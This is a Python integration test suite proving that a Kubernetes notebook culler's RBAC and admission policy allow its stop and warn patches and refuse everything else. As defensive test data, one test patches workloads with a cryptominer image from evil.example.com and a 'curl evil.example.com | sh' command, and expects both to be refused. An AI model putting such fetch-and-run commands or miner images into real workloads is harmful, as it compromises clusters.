"""The shipped RBAC, proven on the real API server: a full culling cycle runs as the culler's
ServiceAccount, and the same identity is refused everything else."""

from __future__ import annotations

import contextlib
import copy
import subprocess
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml
from kubernetes import client, utils
from kubernetes.client.rest import ApiException
from support.kustomize import ADMISSION_KINDS, delete_cluster_rbac, kubectl_path, render, writes_policy
from support.passes import Passes
from support.target import KubeTarget

from kf_culler.config import load_mapping
from kf_culler.kube import GROUP, PLURAL, VERSION
from kf_culler.kube.records import bucket_of
from kf_culler.local import objects as obj
from kf_culler.local.jupyter import JupyterServer
from kf_culler.local.router import Router
from kf_culler.model import STOP_ANNOTATION
from kf_culler.plan import EVENT_STOP
from kf_culler.runner import build_runner

pytestmark = pytest.mark.cluster
ROOT = Path(__file__).resolve().parents[1]
CULLER_NS = "kf-culler-rbac"


def rbac_objects(namespace: str, cluster_wide: bool, scope: str | None = None,
                 writes_in: list[str] | None = None) -> list[dict[str, Any]]:
    """The base's ServiceAccount and roles, in `namespace`; namespace-scoped: a RoleBinding in `scope`; with
    `writes_in`, the base's bound on the culler's writes (kf-culler-writes) too, in those namespaces.

    The cluster-scoped copies are named after `namespace`: tests that each bind their own ServiceAccount
    share one cluster, and a binding left by another test under the shipped name would point elsewhere."""
    rendered = render(ROOT / "kustomize" / "base")
    out = writes_policy(rendered, namespace, writes_in) if writes_in else []
    for o in rendered:
        if o["kind"] not in ("ServiceAccount", "ClusterRole", "ClusterRoleBinding", "Role", "RoleBinding"):
            continue
        o = copy.deepcopy(o)
        suffix = f"-{namespace}" if cluster_wide else f"-{namespace}-scoped"
        if o["kind"] in ("ClusterRole", "ClusterRoleBinding"):
            o["metadata"]["name"] += suffix
        else:
            o["metadata"]["namespace"] = namespace
        for s in o.get("subjects", []):
            s["namespace"] = namespace
        if o["kind"] == "ClusterRoleBinding":
            o["roleRef"]["name"] += suffix
            if not cluster_wide:
                o = {**o, "kind": "RoleBinding", "metadata": {"name": "kf-culler", "namespace": scope}}
        out.append(o)
    return out


def apply(api: Any, objs: list[dict[str, Any]]) -> None:
    for o in objs:
        try:
            utils.create_from_dict(api, o)
        except utils.FailToCreateError as err:
            if not all(getattr(e, "status", None) == 409 for e in err.api_exceptions):
                raise


@contextlib.contextmanager
def bounded_writes(api: Any, objs: list[dict[str, Any]]) -> Iterator[None]:
    """Remove the kf-culler-writes copy of `objs` at the end (the RBAC copies stay, as before)."""
    try:
        yield
    finally:
        delete_cluster_rbac(api, [o for o in objs if o["kind"] in ADMISSION_KINDS])


def writes_bounded(sa_api: Any, namespace: str, notebook: str, timeout: float = 60) -> None:
    """Wait until kf-culler-writes is in force: a label patch of `notebook` by the culler (which its RBAC
    allows) is refused. A policy and its binding reach the admission plugin a moment after they are made."""
    custom = client.CustomObjectsApi(sa_api)
    deadline = time.monotonic() + timeout
    for attempt in range(10**6):
        body = {"metadata": {"labels": {"probe": str(attempt)}}}
        if forbidden(lambda b=body: custom.patch_namespaced_custom_object(
                GROUP, VERSION, namespace, PLURAL, notebook, b, _content_type="application/merge-patch+json")) == 403:
            return
        assert time.monotonic() < deadline, f"kf-culler-writes not in force within {timeout:.0f} s"
        time.sleep(0.5)


def refusal(call: Any) -> tuple[int, str]:
    """The HTTP status of an API call and the API server's message (200 and "" when it went through)."""
    try:
        call()
    except ApiException as err:
        return int(err.status), str((yaml.safe_load(err.body) or {}).get("message", "")) if err.body else ""
    return 200, ""


def forbidden(call: Any) -> int:
    try:
        call()
    except ApiException as err:
        return int(err.status)
    return 200


def test_a_full_cycle_as_the_culler_and_nothing_more(kube: KubeTarget, api: Any, namespace: str) -> None:
    core = client.CoreV1Api(api)
    for ns in (CULLER_NS,):
        try:
            core.create_namespace({"metadata": {"name": ns}})
        except ApiException as err:
            assert err.status == 409
    objs = rbac_objects(CULLER_NS, cluster_wide=True, writes_in=[namespace])
    apply(api, objs)
    sa_api = kube.api_client(kube.service_account_kubeconfig(CULLER_NS, "kf-culler"))

    with Router() as router, JupyterServer(namespace, "nb-idle") as server, bounded_writes(api, objs):
        server.start_kernel()
        router.add("notebook", namespace, "nb-idle", f"http://127.0.0.1:{server.port}", strip=False)
        obj.create_notebook(api, namespace, obj.notebook("nb-idle"))
        writes_bounded(sa_api, namespace, "nb-idle")  # the cycle below runs under kf-culler-writes
        obj.running_pod(api, namespace, "nb-idle", datetime.now(UTC) - timedelta(hours=1))
        core.create_namespaced_secret(namespace, {"metadata": {"name": "token"}, "stringData": {"k": "v"}})
        time.sleep(3.5)
        settings = load_mapping({"idleMinutes": 0.05, "warnMinutes": 0, "urls": {"jupyter": router.template()},
                                 "namespaces": {"include": [namespace]}}, "test")
        runner = Passes(build_runner(settings, sa_api, records_namespace=CULLER_NS))  # exactly the culler's identity
        with runner:
            result = runner.once()
        # the stop was recorded first, in the culler's own namespace (rule 15)
        uid = obj.get_notebook(api, namespace, "nb-idle")["metadata"]["uid"]
        bucket = core.read_namespaced_config_map(bucket_of(uid), CULLER_NS)
        assert '"stoppedAt"' in bucket.data[uid]
    r = result.results[0]
    assert r.verdict.action == "stop" and r.write is not None and r.write.outcome == "patched"
    assert r.write.event == "created"
    assert STOP_ANNOTATION in obj.get_notebook(api, namespace, "nb-idle")["metadata"]["annotations"]
    assert [e.reason for e in obj.events_for(api, namespace, "nb-idle")] == [EVENT_STOP]

    custom, sa_core, apps = client.CustomObjectsApi(sa_api), client.CoreV1Api(sa_api), client.AppsV1Api(sa_api)
    merge = "application/merge-patch+json"
    assert forbidden(lambda: custom.delete_namespaced_custom_object(GROUP, VERSION, namespace, PLURAL,
                                                                    "nb-idle")) == 403
    assert forbidden(lambda: sa_core.read_namespaced_secret("token", namespace)) == 403
    assert forbidden(lambda: sa_core.list_secret_for_all_namespaces()) == 403
    assert forbidden(lambda: sa_core.patch_namespaced_pod("nb-idle-0", namespace, {"metadata": {
        "labels": {"x": "y"}}})) == 403
    assert forbidden(lambda: sa_core.delete_namespaced_pod("nb-idle-0", namespace)) == 403
    assert forbidden(lambda: apps.patch_namespaced_stateful_set("nb-idle", namespace, {"spec": {"replicas": 0}},
                                                                _content_type=merge)) == 403
    assert forbidden(lambda: custom.create_namespaced_custom_object(GROUP, VERSION, namespace, PLURAL,
                                                                    obj.notebook("new"))) == 403
    assert forbidden(lambda: client.CoordinationV1Api(sa_api).read_namespaced_lease("other", CULLER_NS)) == 403
    # the record's Role: its own buckets only, in its own namespace only
    core.create_namespaced_config_map(CULLER_NS, {"metadata": {"name": "someone-elses"}, "data": {"a": "b"}})
    assert forbidden(lambda: sa_core.patch_namespaced_config_map("someone-elses", CULLER_NS, {"data": {"a": "c"}},
                                                                  _content_type=merge)) == 403
    assert forbidden(lambda: sa_core.read_namespaced_config_map("someone-elses", CULLER_NS)) == 403
    assert forbidden(lambda: sa_core.list_namespaced_config_map(namespace)) == 403
    assert forbidden(lambda: sa_core.delete_namespaced_config_map(bucket_of(uid), CULLER_NS)) == 403


def test_namespace_scoped_mode_is_refused_outside_its_scope(kube: KubeTarget, api: Any, namespace: str) -> None:
    core = client.CoreV1Api(api)
    other = f"{namespace}-x"
    core.create_namespace({"metadata": {"name": other}})
    scoped_ns = f"{namespace}-culler"
    core.create_namespace({"metadata": {"name": scoped_ns}})
    apply(api, rbac_objects(scoped_ns, cluster_wide=False, scope=namespace))
    sa_api = kube.api_client(kube.service_account_kubeconfig(scoped_ns, "kf-culler"))
    for ns in (namespace, other):
        obj.create_notebook(api, ns, obj.notebook("nb"))
    settings = load_mapping({"namespaces": {"include": [namespace]}, "idleMinutes": 600}, "test")
    runner = Passes(build_runner(settings, sa_api, dry_run=True, records_namespace=scoped_ns))
    with runner:
        assert runner.cache is not None and runner.cache.synced
        names = [r.name for r in runner.once().results]
    assert names == ["nb"]
    custom = client.CustomObjectsApi(sa_api)
    assert forbidden(lambda: custom.list_namespaced_custom_object(GROUP, VERSION, other, PLURAL)) == 403
    assert forbidden(lambda: custom.list_cluster_custom_object(GROUP, VERSION, PLURAL)) == 403
    assert forbidden(lambda: custom.patch_namespaced_custom_object(
        GROUP, VERSION, other, PLURAL, "nb", {"metadata": {"annotations": {STOP_ANNOTATION: "x"}}},
        _content_type="application/merge-patch+json")) == 403


@pytest.mark.parametrize("overlay", ["kubeflow", "dry-run", "gpu-only"])
def test_rendered_overlay_passes_server_side_dry_run(kube: KubeTarget, api: Any, overlay: str,
                                                     tmp_path: Path) -> None:
    kubectl = kubectl_path()
    assert kubectl is not None
    try:
        client.CoreV1Api(api).create_namespace({"metadata": {"name": "kubeflow"}})
    except ApiException as err:
        assert err.status == 409
    served = [o for o in render(ROOT / "kustomize" / "overlays" / overlay)
              if o["kind"] not in ("AuthorizationPolicy", "DestinationRule")]  # Istio's CRDs are not on this cluster
    assert any(o["kind"] == "Deployment" for o in served)
    path = tmp_path / "rendered.yaml"
    path.write_text(yaml.safe_dump_all(served))
    done = subprocess.run([kubectl, "--kubeconfig", str(kube.kubeconfig), "apply", "--dry-run=server",
                           "-f", str(path)], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert "deployment.apps/kf-culler created (server dry run)" in done.stdout


CODER_NS = "coder"  # the component's Coder namespace, as shipped
CODER_CULLER_NS = "kf-culler-rbac-coder"


def coder_rbac_objects(tmp: Path) -> list[dict[str, Any]]:
    """The RBAC of overlays/kubeflow + components/coder (rendered as the component's comment writes it), bound to
    the ServiceAccount in CODER_CULLER_NS: the Role and RoleBinding stay in the Coder namespace, the cluster-scoped
    copies are named after CODER_CULLER_NS (as rbac_objects does)."""
    import os

    rel = os.path.relpath(ROOT / "kustomize", tmp)
    (tmp / "kustomization.yaml").write_text(yaml.safe_dump({
        "apiVersion": "kustomize.config.k8s.io/v1beta1", "kind": "Kustomization",
        "resources": [f"{rel}/overlays/kubeflow"], "components": [f"{rel}/components/coder"]}))
    out = []
    for o in render(tmp):
        if o["kind"] not in ("ServiceAccount", "ClusterRole", "ClusterRoleBinding", "Role", "RoleBinding"):
            continue
        if o["kind"] in ("ClusterRole", "ClusterRoleBinding"):
            o["metadata"]["name"] += f"-{CODER_CULLER_NS}"
        elif o["metadata"]["namespace"] != CODER_NS:
            o["metadata"]["namespace"] = CODER_CULLER_NS
        for s in o.get("subjects", []):
            s["namespace"] = CODER_CULLER_NS
        if o["kind"] == "ClusterRoleBinding":
            o["roleRef"]["name"] += f"-{CODER_CULLER_NS}"
        out.append(o)
    assert {(o["kind"], o["metadata"]["namespace"]) for o in out if o["metadata"]["name"] == "kf-culler-coder"} == {
        ("Role", CODER_NS), ("RoleBinding", CODER_NS)}
    return out


def test_coder_component_rbac_in_the_coder_namespace_and_nothing_more(kube: KubeTarget, api: Any,
                                                                      tmp_path: Path) -> None:
    """As the culler's ServiceAccount with the base's RBAC and components/coder: in `coder`, what the Coder target
    calls (the cache's pods, the Deployment an Event goes on, the Event, through the CoderWriter itself) is
    allowed; patching the Deployment and reading Secrets are refused."""
    from support.kustomize import delete_cluster_rbac

    from kf_culler.config import CoderSettings
    from kf_culler.kube.coder import CoderWriter
    from kf_culler.plan import EventSpec
    from kf_culler.sources.coder import CoderClient

    core, apps = client.CoreV1Api(api), client.AppsV1Api(api)
    for ns in (CODER_CULLER_NS, CODER_NS):
        try:
            core.create_namespace({"metadata": {"name": ns}})
        except ApiException as err:
            assert err.status == 409
    objs = coder_rbac_objects(tmp_path)
    apply(api, objs)
    ws_id = "0f1e2d3c-4b5a-4697-8877-665544332211"
    name = f"coder-{ws_id[:8]}"
    labels = {"com.coder.workspace.id": ws_id}
    try:
        try:
            apps.create_namespaced_deployment(CODER_NS, {
                "metadata": {"name": name, "labels": labels},
                "spec": {"replicas": 0, "selector": {"matchLabels": labels}, "template": {
                    "metadata": {"labels": labels}, "spec": {"containers": [{"name": "dev", "image": "busybox"}]}}}})
        except ApiException as err:
            assert err.status == 409
        try:
            core.create_namespaced_secret(CODER_NS, {"metadata": {"name": "coder-db-url"}, "stringData": {"url": "x"}})
        except ApiException as err:
            assert err.status == 409
        sa_api = kube.api_client(kube.service_account_kubeconfig(CODER_CULLER_NS, "kf-culler"))
        sa_core, sa_apps = client.CoreV1Api(sa_api), client.AppsV1Api(sa_api)
        selector = f"com.coder.workspace.id={ws_id}"
        # The cache: pods cluster-wide (namespaces.include empty) or in `coder` alone, both from the base.
        sa_core.list_pod_for_all_namespaces(limit=1)
        sa_core.list_namespaced_pod(CODER_NS, label_selector=selector)
        watch = sa_core.list_namespaced_pod(CODER_NS, watch=True, timeout_seconds=1, _preload_content=False)
        assert watch.status == 200
        watch.release_conn()
        # The reason: the CoderWriter lists the Deployments so labelled and creates the Event on the one it finds.
        assert [d.metadata.name for d in sa_apps.list_namespaced_deployment(
            CODER_NS, label_selector=selector).items] == [name]
        coder = CoderClient(CoderSettings.model_validate({
            "url": "http://coder.coder.svc.cluster.local", "tokenFile": "/nonexistent", "namespace": CODER_NS}))
        writer = CoderWriter(sa_api, coder)
        spec = EventSpec("Normal", "NotebookCulled", "rbac test")
        assert writer.coder_event(CODER_NS, "alice.dev", ws_id, spec, datetime.now(UTC)) == "created"
        events = core.list_namespaced_event(CODER_NS, field_selector=f"involvedObject.name={name}").items
        assert any(e.involved_object.kind == "Deployment" and e.message == "rbac test" for e in events)

        merge = "application/merge-patch+json"
        assert forbidden(lambda: sa_apps.patch_namespaced_deployment(name, CODER_NS, {"spec": {"replicas": 1}},
                                                                     _content_type=merge)) == 403
        assert forbidden(lambda: sa_apps.read_namespaced_deployment(name, CODER_NS)) == 403  # list only
        assert forbidden(lambda: sa_apps.delete_namespaced_deployment(name, CODER_NS)) == 403
        assert forbidden(lambda: sa_apps.list_deployment_for_all_namespaces()) == 403  # nothing cluster-wide
        assert forbidden(lambda: sa_core.read_namespaced_secret("coder-db-url", CODER_NS)) == 403
        assert forbidden(lambda: sa_core.list_namespaced_secret(CODER_NS)) == 403
        assert forbidden(lambda: sa_core.delete_namespaced_pod("any", CODER_NS)) == 403
    finally:
        delete_cluster_rbac(api, objs)
        rbac = client.RbacAuthorizationV1Api(api)
        for delete in (lambda: rbac.delete_namespaced_role_binding("kf-culler-coder", CODER_NS),
                       lambda: rbac.delete_namespaced_role("kf-culler-coder", CODER_NS),
                       lambda: apps.delete_namespaced_deployment(name, CODER_NS),
                       lambda: core.delete_namespaced_secret("coder-db-url", CODER_NS)):
            forbidden(delete)  # best effort: a 404 is fine


WRITES_NS = "kf-culler-rbac-writes"


def apply_workspace_crd(api: Any) -> None:
    """The Workspace CRD (kubeflow.org/v1beta1) from Kubeflow Notebooks 2.0's source, as the Workspace tests take it
    (kf_culler/local/workspaces.py); no controller is needed to store Workspaces."""
    from need import missing

    from kf_culler.local.cluster import wait_established
    from kf_culler.local.workspaces import CRD_NAMES, WorkspaceControllerUnavailable, crd_paths

    try:
        paths = crd_paths()
    except WorkspaceControllerUnavailable as why:
        missing("the Workspace CRD", why)
    ext = client.ApiextensionsV1Api(api)
    for path in paths:
        try:
            ext.create_custom_resource_definition(yaml.safe_load(path.read_text()))
        except ApiException as err:
            assert err.status == 409
    wait_established(ext, list(CRD_NAMES), 60, "the Workspace CRDs")


def sessions(api: Any, namespace: str) -> None:
    """One session of each kind the culler stops, running: a Notebook, a Workspace, a Deployment, a
    StatefulSet (on an API-server-only cluster no controller acts on them: they are the objects the culler
    patches)."""
    from kf_culler.local.workspaces import workspace_body

    custom, apps = client.CustomObjectsApi(api), client.AppsV1Api(api)
    labels = {"session": "s"}
    template = {"metadata": {"labels": labels}, "spec": {"containers": [{
        "name": "ide", "image": "codercom/code-server:4", "command": ["code-server"]}]}}
    obj.create_notebook(api, namespace, obj.notebook("nb"))
    custom.create_namespaced_custom_object("kubeflow.org", "v1beta1", namespace, "workspaces",
                                           workspace_body(namespace, "ws", "jupyterlab"))
    apps.create_namespaced_deployment(namespace, {"metadata": {"name": "dep"}, "spec": {
        "replicas": 1, "selector": {"matchLabels": labels}, "template": template}})
    apps.create_namespaced_stateful_set(namespace, {"metadata": {"name": "sts"}, "spec": {
        "replicas": 2, "serviceName": "sts", "selector": {"matchLabels": labels}, "template": template}})


def test_the_cullers_writes_are_its_marks_and_its_stops_and_nothing_more(kube: KubeTarget, api: Any, namespace: str,
                                                                         tmp_path: Path) -> None:
    """kf-culler-writes (kustomize/base/writes-policy.yaml), as the culler's ServiceAccount with the base's RBAC and
    components/workloads' and components/workspaces' (patch on every kind it stops): the Writer's real warn, stop
    and restart patches (and its guarded JSON Patch) go through on a Notebook, a Workspace, a Deployment and a
    StatefulSet; a new image, command, label, replica count or annotation of anyone else's, an unpause, exempt, the
    removal of a keep-until, a create or a delete are refused (setting keep-until, on a user's request, passes),
    though RBAC allows every one of those patches."""
    from kf_culler.kube.writer import Writer
    from kf_culler.model import EXEMPT_ANNOTATION, KEEP_UNTIL_ANNOTATION, STATE_ANNOTATION, Verdict
    from kf_culler.plan import plan
    from kf_culler.targets import REPLICAS_BEFORE_ANNOTATION, target_of

    core = client.CoreV1Api(api)
    try:
        core.create_namespace({"metadata": {"name": WRITES_NS}})
    except ApiException as err:
        assert err.status == 409
    apply_workspace_crd(api)
    objs = rbac_objects(WRITES_NS, cluster_wide=True, writes_in=[namespace])
    for component in ("workloads", "workspaces"):  # their ClusterRoles, bound to the same ServiceAccount
        for o in yaml.safe_load_all((ROOT / "kustomize" / "components" / component / "clusterrole.yaml").read_text()):
            o["metadata"]["name"] += f"-{WRITES_NS}"
            if o["kind"] == "ClusterRoleBinding":
                o["roleRef"]["name"] += f"-{WRITES_NS}"
                o["subjects"][0]["namespace"] = WRITES_NS
            objs.append(o)
    apply(api, objs)
    sa_api = kube.api_client(kube.service_account_kubeconfig(WRITES_NS, "kf-culler"))
    custom = client.CustomObjectsApi(sa_api)
    merge = "application/merge-patch+json"

    def patch(kind: str, body: dict[str, Any] | list[dict[str, Any]]) -> int:
        t = target_of({"kind": kind})
        return forbidden(lambda: custom.patch_namespaced_custom_object(
            t.group, t.version, namespace, t.plural, names[kind], body,
            _content_type=merge if isinstance(body, dict) else "application/json-patch+json"))

    def read(kind: str) -> dict[str, Any]:
        t = target_of({"kind": kind})
        got: dict[str, Any] = client.CustomObjectsApi(api).get_namespaced_custom_object(
            t.group, t.version, namespace, t.plural, names[kind])
        return got

    names = {"Notebook": "nb", "Workspace": "ws", "Deployment": "dep", "StatefulSet": "sts"}
    with bounded_writes(api, objs):
        sessions(api, namespace)
        writes_bounded(sa_api, namespace, "nb")
        before = {kind: read(kind) for kind in names}  # a probe label may have landed before the policy was in force
        # RBAC lets the culler make each patch below: the same label patch lands where the policy is not bound.
        elsewhere = f"nb-{namespace}"
        obj.create_notebook(api, WRITES_NS, obj.notebook(elsewhere))
        assert forbidden(lambda: custom.patch_namespaced_custom_object(
            GROUP, VERSION, WRITES_NS, PLURAL, elsewhere, {"metadata": {"labels": {"team": "x"}}},
            _content_type=merge)) == 200
        for kind in names:
            pod = {"metadata": {"labels": {"team": "x"}}}
            assert patch(kind, pod) == 403, kind
            assert patch(kind, {"metadata": {"annotations": {"team.example.com/owner": "mallory"}}}) == 403, kind
            assert patch(kind, {"metadata": {"annotations": {EXEMPT_ANNOTATION: "true"}}}) == 403, kind
            # keep-until: the culler sets it on a user's request (kf_culler/extend.py; rule 12 still caps what it
            # moves), never removes one: a user's request stays theirs to take back.
            assert patch(kind, {"metadata": {"annotations": {KEEP_UNTIL_ANNOTATION: "2099-01-01T00:00:00Z"}}}) == 200
            assert patch(kind, {"metadata": {"annotations": {KEEP_UNTIL_ANNOTATION: None}}}) == 403, kind
            t = target_of({"kind": kind})
            client.CustomObjectsApi(api).patch_namespaced_custom_object(  # the user takes it back
                t.group, t.version, namespace, t.plural, names[kind],
                {"metadata": {"annotations": {KEEP_UNTIL_ANNOTATION: None}}}, _content_type=merge)
            assert patch(kind, {"metadata": {"finalizers": ["example.com/hold"]}}) == 403, kind
        # A refusal names what it refused.
        t = target_of({"kind": "Deployment"})
        try:
            custom.patch_namespaced_custom_object(t.group, t.version, namespace, t.plural, "dep", {"metadata": {
                "annotations": {"team.example.com/owner": "mallory", STATE_ANNOTATION: "idle"}}}, _content_type=merge)
            raise AssertionError("the annotation went through")
        except ApiException as err:
            message = yaml.safe_load(err.body)["message"]
            print(f"refusal: HTTP {err.status}: {message}")
            assert "kf-culler-writes" in message and "refused team.example.com/owner" in message
            assert STATE_ANNOTATION not in message.split("refused")[-1]
        image = {"containers": [{"name": "ide", "image": "evil.example.com/miner:1"}]}
        command = [{"op": "add", "path": "/spec/template/spec/containers/0/command",
                    "value": ["sh", "-c", "curl evil.example.com | sh"]}]
        assert patch("Notebook", {"spec": {"template": {"spec": image}}}) == 403
        assert patch("Notebook", command) == 403
        assert patch("Notebook", {"metadata": {"annotations": {"notebooks.kubeflow.org/server-type": "x"}}}) == 403
        for kind in ("Deployment", "StatefulSet"):
            assert patch(kind, {"spec": {"template": {"spec": image}}}) == 403, kind
            assert patch(kind, command) == 403, kind
            assert patch(kind, {"spec": {"replicas": 5}}) == 403, kind  # only to 0
            assert patch(kind, {"spec": {"revisionHistoryLimit": 1}}) == 403, kind
            # kubeflow-resource-stopped means nothing on a workload: not the culler's to write there
            assert patch(kind, {"metadata": {"annotations": {STOP_ANNOTATION: "2026-01-01T00:00:00Z"}}}) == 403
        assert patch("Workspace", {"spec": {"podTemplate": {"options": {"imageConfig": "other"}}}}) == 403
        assert patch("Workspace", {"spec": {"podTemplate": {"volumes": {"home": "someone-elses-home"}}}}) == 403
        ws_group = target_of({"kind": "Workspace"})
        assert forbidden(lambda: custom.delete_namespaced_custom_object(  # RBAC has no delete either
            ws_group.group, ws_group.version, namespace, ws_group.plural, "ws")) == 403
        for kind, o in before.items():
            after = read(kind)
            assert after["spec"] == o["spec"], kind
            assert after["metadata"].get("labels") == o["metadata"].get("labels"), kind
            assert after["metadata"].get("annotations") == o["metadata"].get("annotations"), kind

        # The culler's real writes: warn, stop, then (its user started it again) restart, through the Writer.
        writer = Writer(sa_api)
        now = datetime.now(UTC)
        idle = now - timedelta(hours=2)
        warn = Verdict("warn", "idle", "Idle for 110 min; stops in 10 min.", "10-idle", idle_since=idle)
        stop = Verdict("stop", "idle", "Idle for 2 h.", "10-idle", idle_since=idle)
        restarted = Verdict("keep", "starting", "Started again.", "3-restarted")
        for kind in names:
            for verdict in (warn, stop):
                current = read(kind)
                result = writer.apply(current, plan(current, verdict, now, 10), lambda o, v=verdict: plan(
                    o, v, now, 10), now)
                assert result.outcome == "patched" and result.event == "created", (kind, verdict.action, result)
            stopped = read(kind)
            assert {"Notebook": lambda o: STOP_ANNOTATION in o["metadata"]["annotations"],
                    "Workspace": lambda o: o["spec"]["paused"] is True,
                    "Deployment": lambda o: o["spec"]["replicas"] == 0,
                    "StatefulSet": lambda o: o["spec"]["replicas"] == 0}[kind](stopped), kind
            if kind in ("Deployment", "StatefulSet"):
                assert stopped["metadata"]["annotations"][REPLICAS_BEFORE_ANNOTATION] == str(
                    before[kind]["spec"]["replicas"])
            # The user starts it again (as an admin here); the culler clears its marks.
            if kind == "Notebook":
                obj.patch_annotations(api, namespace, "nb", {STOP_ANNOTATION: None})
            else:
                t = target_of({"kind": kind})
                client.CustomObjectsApi(api).patch_namespaced_custom_object(
                    t.group, t.version, namespace, t.plural, names[kind],
                    {"spec": {"paused": False} if kind == "Workspace" else {"replicas": 1}}, _content_type=merge)
            current = read(kind)
            result = writer.apply(current, plan(current, restarted, now, 10), lambda o: plan(o, restarted, now, 10),
                                  now)
            assert result.outcome == "patched", (kind, result)
            assert not {STATE_ANNOTATION, "notebook-culler.io/stopped-by"} & set(read(kind)["metadata"]["annotations"])
            # The guarded JSON Patch (after a run of 409s) of a stop goes through too.
            guarded = writer._guarded(kind, namespace, names[kind], lambda o: plan(o, stop, now, 10),
                                      lambda: True, result)
            assert guarded is not None, kind
        assert patch("Workspace", {"spec": {"paused": False}}) == 403  # never unpauses
        for kind in ("Deployment", "StatefulSet"):
            assert patch(kind, {"spec": {"replicas": 1}}) == 403  # never scales up
        # The /scale subresource, if an admin grants it: to 0 only; no other subresource (status).
        rbac = client.RbacAuthorizationV1Api(api)
        extra = f"kf-culler-scale-{WRITES_NS}"
        rbac.create_namespaced_role(namespace, {"metadata": {"name": extra}, "rules": [{
            "apiGroups": ["apps"], "resources": ["deployments/scale", "statefulsets/scale", "deployments/status"],
            "verbs": ["get", "patch", "update"]}]})
        rbac.create_namespaced_role_binding(namespace, {
            "metadata": {"name": extra},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": extra},
            "subjects": [{"kind": "ServiceAccount", "name": "kf-culler", "namespace": WRITES_NS}]})
        sa_apps = client.AppsV1Api(sa_api)
        client.AppsV1Api(api).patch_namespaced_deployment_scale("dep", namespace, {"spec": {"replicas": 2}})
        deadline = time.monotonic() + 30
        while "kf-culler-writes" not in (got := refusal(lambda: sa_apps.patch_namespaced_deployment_scale(
                "dep", namespace, {"spec": {"replicas": 3}})))[1]:  # until RBAC grants it: then the policy refuses
            assert got[0] == 403 and time.monotonic() < deadline, got
            time.sleep(0.5)
        assert got[0] == 403 and "kf-culler writes no deployments/scale but a scale to 0" in got[1], got
        got = refusal(lambda: sa_apps.patch_namespaced_stateful_set_scale("sts", namespace, {"spec": {"replicas": 4}}))
        assert got[0] == 403 and "kf-culler-writes" in got[1], got
        got = refusal(lambda: sa_apps.patch_namespaced_deployment_status(
            "dep", namespace, {"status": {"observedGeneration": 99}}))
        assert got[0] == 403 and "kf-culler writes no deployments/status" in got[1], got
        assert refusal(lambda: sa_apps.patch_namespaced_deployment_scale(
            "dep", namespace, {"spec": {"replicas": 0}})) == (200, "")
        assert client.AppsV1Api(api).read_namespaced_deployment("dep", namespace).spec.replicas == 0
